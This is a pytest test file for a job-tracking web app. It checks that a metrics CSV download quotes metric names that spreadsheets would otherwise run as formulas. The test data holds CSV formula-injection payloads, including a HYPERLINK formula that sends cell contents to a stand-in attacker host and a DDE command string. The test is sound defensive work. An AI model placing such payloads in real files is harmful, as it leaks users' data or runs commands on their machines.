"""A job names its own metrics; the CSV export must not hand a spreadsheet a formula to run.
A real script job writes hostile metric names to its events file; the download quotes them."""
from __future__ import annotations

import csv
import io

import pytest

from tests.conftest import wait_for

HOSTILE_EVENTS = r"""
import json, os
names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', 'loss']
with open(os.path.join(os.environ["TRAINHUB_RUN_DIR"], "events.jsonl"), "a") as fh:
    fh.write(json.dumps({"type": "metrics", "step": 1, "values": {n: -1.5 for n in names}}) + "\n")
print("wrote metrics", flush=True)
"""


@pytest.mark.slow
def test_metric_names_that_spreadsheets_run_as_formulas_are_quoted_in_the_csv(finished_script_job, user_client):
    from trainhub.jobs.models import Metric

    job = finished_script_job("csv", HOSTILE_EVENTS)
    assert job.status == "succeeded", job.error
    wait_for(lambda: Metric.objects.filter(job_id=job.pk).count() == 5, timeout=30, message="the metrics")

    response = user_client.get(f"/jobs/{job.pk}/metrics.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+cmd|\" /C calc\"!A0",
                            "'-2+3", "'@SUM(A1:A9)", "loss"])
    assert {row[2] for row in rows[1:]} == {"-1.5"}  # values are numbers, left as they are
